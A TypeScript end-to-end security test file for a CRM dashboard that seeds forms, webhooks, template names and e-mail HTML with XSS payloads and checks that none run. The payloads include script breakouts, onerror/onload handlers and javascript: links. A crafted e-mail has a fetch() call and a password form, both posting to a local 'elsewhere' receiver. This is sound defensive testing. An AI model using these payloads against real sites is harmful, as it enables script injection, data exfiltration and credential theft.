import type { BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, inject, test } from 'vitest'
import { until } from '../packages/server/test/helpers.ts'
import { type HttpReceiver, startHttpReceiver } from '../packages/server/test/receivers.ts'
import { usePeople } from './support/browser.ts'
import { api, createLead, owner } from './support/installation.ts'
import { seen } from './support/screen.ts'

// Whoever fills in a form, calls an inbound URL or answers a webhook writes text that somebody reads in the dashboard. None of it may
// become a page: no script, no picture, no form, no way elsewhere. What is HTML on purpose, an e-mail, stays in its frame.

const people = usePeople()
/** Another site: whatever a page loads, sends or goes to from what strangers wrote arrives here. */
let elsewhere: HttpReceiver
let lead = ''
let automation = ''
let template = ''
let run = ''
let called = ''

/** Breaks out of attributes, texts, scripts and styles, each in the way that would show. */
const hostile = (where: string) =>
  `${where}"'></title></textarea></script><img src=x onerror=window.hit=1><svg onload=window.hit=1><script>window.hit=1</script>` +
  `<iframe src="${elsewhere.url}/frame"></iframe><a href="javascript:window.hit=1">x</a>\u202e{{7*7}}`
/** An e-mail that wants to be more. */
const hostileMail =
  () => `<html><head><base href="${elsewhere.url}/base/"><meta http-equiv="refresh" content="0;url=${elsewhere.url}/refresh">
  <link rel="stylesheet" href="${elsewhere.url}/sheet.css"><style>@import "${elsewhere.url}/import.css"; body { background: url(${elsewhere.url}/bg.png) }</style></head>
  <body onload="window.top.hit=1"><p id="read">Read me {{record.name}}</p><script>window.top.hit=1; fetch('${elsewhere.url}/fetch')</script>
  <img src="${elsewhere.url}/pixel.png" onerror="window.top.hit=1"><img src=x onerror="window.top.hit=1"><svg onload="window.top.hit=1"></svg>
  <form id="form" action="${elsewhere.url}/form" method="post"><input name="password"><button>Send</button></form>
  <iframe src="${elsewhere.url}/frame"></iframe><object data="${elsewhere.url}/object"></object><video poster="${elsewhere.url}/poster"></video>
  <a id="top" href="${elsewhere.url}/top" target="_top">up</a> <a id="js" href="javascript:window.top.hit=1">js</a></body></html>`

beforeAll(async () => {
  elsewhere = await startHttpReceiver()
  elsewhere.otherwise(() => ({
    kind: 'answer',
    status: 500,
    headers: { 'content-type': 'text/html' },
    body: `<script>window.hit=1</script>${hostile('answer')}`,
  }))
  template = (
    await api<{ id: string }>('POST', '/email-templates', {
      name: hostile('template').slice(0, 90),
      subject: hostile('subject').replaceAll('{{7*7}}', ''),
      html: hostileMail(),
    })
  ).id
  const made = await api<{ id: string; webhook: { url: string } }>('POST', '/automations', {
    name: hostile('called').slice(0, 90),
    status: 'active',
    trigger: { event: 'webhook.received' },
    actions: [{ type: 'stop', config: { reason: '{{webhook.body.text}}' } }],
  })
  automation = (
    await api<{ id: string }>('POST', '/automations', {
      name: hostile('automation').slice(0, 90),
      description: hostile('description'),
      status: 'active',
      trigger: { event: 'record.created', object: 'leads' },
      conditions: {
        match: 'all',
        rules: [{ field: 'notes', operator: 'contains', value: hostile('rule').replaceAll('{{7*7}}', '') }],
      },
      actions: [
        {
          type: 'send_email',
          name: hostile('step').slice(0, 90),
          config: { template_id: template, to: '{{record.email}}' },
        },
        { type: 'create_record', config: { object_definition_id: 'tasks', data: { title: '{{record.name}}' } } },
        {
          type: 'webhook',
          config: { url: 'http://127.0.0.1:9/', body: { text: '{{record.notes}}' }, retry: { delays_seconds: [] } },
        },
      ],
    })
  ).id
  lead = await createLead({
    name: hostile('name').slice(0, 250),
    email: 'stranger@example.org',
    company: hostile('company').slice(0, 250),
    notes: hostile('rule').replaceAll('{{7*7}}', '') + hostile('notes'),
  })
  await api('POST', '/crm/record', {
    object_id: 'companies',
    field_values: { name: hostile('co').slice(0, 250), industry: hostile('industry').slice(0, 250) },
  })
  await api('POST', '/crm/objects', { name: hostile('object').slice(0, 90), description: hostile('object') })
  await api('POST', '/api-keys', { name: hostile('key').slice(0, 90), type: 'intake' })
  const body = JSON.stringify({ text: hostile('inbound'), [hostile('name')]: hostile('value') })
  const headers = { 'content-type': 'application/json', 'user-agent': hostile('agent').replaceAll('\u202e', '') }
  const answer = await fetch(made.webhook.url, { method: 'POST', headers, body })
  expect(answer.status).toBe(202)
  const runOf = (id: string, status: string) =>
    until(async () => {
      const { data } = await api<{ data: { id: string }[] }>('GET', `/runs?automation_id=${id}&status=${status}`)
      return data[0]?.id
    })
  run = await runOf(automation, 'failed')
  called = await runOf(made.id, 'succeeded')
})
afterAll(() => elsewhere.close())

interface Watched {
  page: Page
  dialogs: string[]
  popups: string[]
}

/** A page of the owner's on which whatever a stranger could do is noted. */
async function watched(): Promise<Watched> {
  const context: BrowserContext = await owner(people)
  const page = await context.newPage()
  const found: Watched = { page, dialogs: [], popups: [] }
  page.on('dialog', (dialog) => {
    found.dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  page.on('popup', (popup) => void found.popups.push(popup.url()))
  await page.addInitScript(() => {
    if (window.top !== window) return
    const noted: string[] = ((window as unknown as { noted: string[] }).noted = [])
    document.addEventListener('securitypolicyviolation', (event) => {
      // zod asks whether it may compile its schemas, and does without
      if (event.blockedURI !== 'eval') noted.push(`${event.violatedDirective} ${event.blockedURI}`)
    })
  })
  return found
}

/** What got through on the page as it is now. */
async function gotThrough({ page, dialogs, popups }: Watched): Promise<string[]> {
  const inside = await page.evaluate(() => {
    const { hit, noted } = window as unknown as { hit?: number; noted: string[] }
    const strange = document.querySelectorAll(
      'img[src="x"], svg[onload], [onerror], iframe[src], a[href^="javascript:"], script:not([src])',
    )
    return [
      ...(hit === undefined ? [] : ['a script ran']),
      ...[...strange].map((each) => each.outerHTML.slice(0, 200)),
      ...noted.map((each) => `forbidden by the policy: ${each}`),
    ]
  })
  return [...inside, ...dialogs, ...popups, ...elsewhere.requests.map(({ path }) => `asked another site for ${path}`)]
}

test('on every page that shows what others wrote it is text', async () => {
  const all = await watched()
  const { page } = all
  const pages: Record<string, string> = {
    '/overview': 'Recent alerts',
    '/automations': 'automation"',
    [`/automations/${automation}`]: 'Only if',
    '/runs': 'automation"',
    [`/runs/${run}`]: 'Steps',
    [`/runs/${called}`]: 'Steps',
    '/runs/failures': 'automation"',
    '/objects/leads': 'name"',
    '/objects/companies': 'co"',
    '/objects/tasks': 'name"',
    [`/records/${lead}`]: 'History',
    '/templates': 'template"',
    '/settings/objects': 'object"',
    '/settings/api-keys': 'key"',
    '/settings/users': 'Users',
    '/settings/audit-log': 'Audit log',
  }
  const wrong: string[] = []
  for (const [path, sign] of Object.entries(pages)) {
    await page.goto(inject('installation').url + path)
    await seen(page.getByText(sign, { exact: false }).filter({ visible: true }))
    for (const what of await gotThrough(all)) wrong.push(`${path}: ${what}`)
  }
  expect(wrong).toEqual([])
})

test('an e-mail that is more than one stays in its frame: nothing runs, nothing is loaded, nothing leads away', async () => {
  const all = await watched()
  const { page } = all
  const { url } = inject('installation')
  await page.goto(`${url}/outbox`)
  await page.getByText('stranger@example.org').first().click()
  await seen(page.frameLocator('iframe').locator('#read').first())
  expect(await gotThrough(all)).toEqual([])
  const frame = page.frameLocator('iframe').first()
  for (const id of ['#top', '#js', '#form button']) {
    // with the mouse alone: what the click begins is refused, and never ends
    const box = (await frame.locator(id).boundingBox())!
    await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2)
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)))
    expect([id, ...(await gotThrough(all))]).toEqual([id])
    expect(page.url()).toContain(url)
  }
  await page.goto(`${url}/templates/${template}`)
  await seen(page.frameLocator('iframe').locator('#read').first())
  expect(await gotThrough(all)).toEqual([])
  await page.goto(`${url}/runs/${run}`)
  await seen(page.getByRole('heading', { name: 'Steps' }))
  expect(await gotThrough(all)).toEqual([])
})
